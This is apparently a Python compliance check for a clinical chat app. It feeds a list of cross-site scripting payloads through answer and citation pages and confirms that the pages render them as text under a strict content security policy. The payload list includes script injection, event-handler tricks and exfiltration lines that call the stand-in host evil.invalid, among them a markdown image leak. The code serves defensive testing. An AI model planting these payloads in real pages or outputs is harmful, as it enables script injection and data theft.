"""The check that an answer does nothing: hostile text goes through the real page, and what a browser gets is read."""

from __future__ import annotations

import hashlib
import uuid
from collections.abc import Iterator, Mapping, Sequence
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Final

from clinchat.lib import clock
from compliance.access.roles import Role
from compliance.controls.registry import CannotLook, Found, check

if TYPE_CHECKING:
    from chat.models import Chunk, Citation, Conversation, Turn
    from compliance.models import User

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<img src=https://evil.invalid/p.png onerror=alert(1)>",
    "<img src=//evil.invalid/?q=warfarin>",
    "<a href=javascript:alert(1)>dose</a>",
    '<a href="https://evil.invalid/?q=warfarin">dose</a>',
    '"><svg onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.invalid/x></object>",
    "<embed src=https://evil.invalid/x>",
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><input name=q></form>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<p style=background:url(//evil.invalid/x)>dose</p>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<video src=https://evil.invalid/x autoplay></video>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea><script>alert(1)</script>",
    "</template></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "![x](https://evil.invalid/p.png?q=warfarin)",
    "[dose](javascript:alert(1))",
    "{{ 7|add:7 }}{% debug %}${alert(1)}",
    "<scr\u200bipt>alert(1)</scr\u200bipt>\u202e",
)
SAYS: Final = "Give warfarin in the evening"
FORBIDDEN: Final = frozenset({"iframe", "object", "embed", "base", "frame", "applet", "style", "portal"})
FETCHES: Final = frozenset(
    {"src", "href", "action", "formaction", "srcset", "data", "poster", "background", "ping", "xlink:href"}
)
_STRICT: Final[Mapping[str, frozenset[str]]] = {
    "default-src": frozenset({"'none'"}),
    "script-src": frozenset({"'self'"}),
    "base-uri": frozenset({"'none'"}),
    "frame-ancestors": frozenset({"'none'"}),
    "form-action": frozenset({"'self'"}),
    "img-src": frozenset({"'self'"}),
    "connect-src": frozenset({"'self'"}),
    "require-trusted-types-for": frozenset({"'script'"}),
}
"""What must be in the policy of the page, at most."""


ANYWHERE: Final = frozenset({"*", "data:", "blob:", "http:", "https:"})


class Page(HTMLParser):
    """What of a page would do something, and its words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.words: list[str] = []
        self._script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._script = tag == "script"
        if tag in FORBIDDEN or (tag == "script" and "src" not in given):
            self.found.append(tag)
        if tag == "meta" and given.get("http-equiv", "").lower() == "refresh" and "url" in given.get("content", ""):
            self.found.append("meta.refresh")
        for name, value in given.items():
            does = name.startswith("on") or name in {"style", "srcdoc"}
            if does or (name in FETCHES and not _own(value)):
                self.found.append(f"{tag}.{name}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.found.append("script.text")
        self.words.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def _own(address: str) -> bool:
    """Whether it stays on this site. A browser reads on past blanks, and takes \\ for /."""
    plain = "".join(address.split()).replace("\\", "/").lower()
    return plain.startswith(("/", "?", "#")) and not plain.startswith("//") if plain else True


@check("llm.output_inert", seconds=20)
def output_inert() -> Found:
    """An answer of hostile statements, from a document with hostile words in each field, on the pages that show both.

    What came over HTTP is parsed: no script but our files, no event handler, style, frame or other site, and every
    statement stands there as text. Its content security policy allows nothing else either, so what a script writes
    into the page later does nothing (trusted types). The address of a document's source is a link that editors make,
    held to http and https where it is entered. Production has no browser: those of the tests look at the rest.
    """
    from compliance.controls import canary

    asker = canary.person(Role.CLINICIAN, cleared=True)
    answer = _answer(asker.user)
    source = answer.turns.get().citations.first()
    found: list[str] = []
    policy: list[str] = []
    hidden: list[int] = []
    for address in (answer.get_absolute_url(), source.get_absolute_url() if source else ""):
        response = asker.client.get(address, headers={"accept": "text/html"})
        if response.status_code != 200:
            raise CannotLook(f"a page of an answer gave status {response.status_code}")
        page = Page(response.content.decode())
        said = "".join(page.words)
        found += page.found
        policy += loose(response.headers.get("Content-Security-Policy", ""))
        policy += [] if response.headers.get("X-Content-Type-Options") == "nosniff" else ["X-Content-Type-Options"]
        if address == answer.get_absolute_url():
            hidden = [number for number, text in enumerate(HOSTILE) if f"{SAYS} {number}. {text}" not in said]
    policy = sorted(set(policy))
    failing = [*sorted(set(found)), *policy, *(f"not-shown.{number}" for number in hidden)]
    return Found(
        not failing,
        f"{len(found)} active parts from {len(HOSTILE)} hostile statements, {len(hidden)} not shown as text, "
        f"{len(policy)} directives of the policy too loose",
        max(len(HOSTILE) + len(_STRICT) + 1, len(failing)),
        failing,
        {"statements": len(HOSTILE), "active": len(found), "policy": [*policy]},
    )


def loose(policy: str) -> Iterator[str]:
    """Directives of a content security policy that are missing, or allow more than our own files."""
    given = {words[0]: frozenset(words[1:]) for part in policy.lower().split(";") if (words := part.split())}
    for name, most in _STRICT.items():
        if not given.get(name) or not given[name] <= most:
            yield f"csp.{name}"
    for name, sources in given.items():
        if sources & ANYWHERE or any(source.startswith("'unsafe") for source in sources):
            yield f"csp.{name}.unsafe"


def _answer(author: User) -> Conversation:
    """A conversation with one answer that quotes a hostile document."""
    from chat.models import Chunk, Citation, Collection, Conversation, Document, DocumentVersion, Turn

    statements = [f"{SAYS} {number}. {text}" for number, text in enumerate(HOSTILE)]
    text, bad = "\n".join(statements), HOSTILE[2]
    into = Collection.objects.create(slug=f"check-{uuid.uuid4().hex}", name=bad)
    version = DocumentVersion.objects.create(
        document=Document.objects.create(collection=into, external_id="check"),
        number=1,
        status=DocumentVersion.Status.PUBLISHED,
        format=DocumentVersion.Format.MARKDOWN,
        **dict.fromkeys(("title", "owner", "source", "licence", "section"), bad),
        specialty=bad[:100],
        text=text,
        sha256=_sha256(text),
    )
    chunk = Chunk.objects.create(
        version=version,
        collection=into,
        ordinal=1,
        section=bad,
        start=0,
        end=len(text),
        text=text,
        sha256=_sha256(text),
        search_sha256=_sha256(text),
    )
    found = Conversation.objects.create(author=author, title=bad)
    turn = Turn.objects.create(
        conversation=found,
        number=1,
        submission=uuid.uuid4(),
        question=f"What of {bad} and {HOSTILE[0]}?",
        medicines=[bad],
        status=Turn.Status.ANSWERED,
        finished_at=clock.now(),
        deadline_at=clock.now(),
        blocks=_blocks(statements, bad),
        evidence={"unknown": [bad], "searched_also": [[bad, bad]]},
    )
    Citation.objects.bulk_create(_citation(turn, chunk, n, quote) for n, quote in enumerate(statements, 1))
    return found


def _blocks(statements: Sequence[str], heading: str) -> list[dict[str, object]]:
    kinds = ["p", *["li"] * (len(statements) - 1)]
    made: list[dict[str, object]] = [
        {"kind": kind, "text": text, "claim": f"c{n}", "cites": [n]}
        for n, (kind, text) in enumerate(zip(kinds, statements, strict=True), 1)
    ]
    return [*made, {"kind": "h3", "text": heading, "claim": "", "cites": []}]


def _citation(turn: Turn, chunk: Chunk, n: int, quote: str) -> Citation:
    from chat.models import Citation

    start = chunk.text.index(quote)
    return Citation(
        turn=turn,
        n=n,
        position=n,
        version_id=chunk.version_id,
        chunk=chunk,
        section=chunk.section,
        start=start,
        end=start + len(quote),
        quote=quote,
        sha256=_sha256(quote),
    )


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()
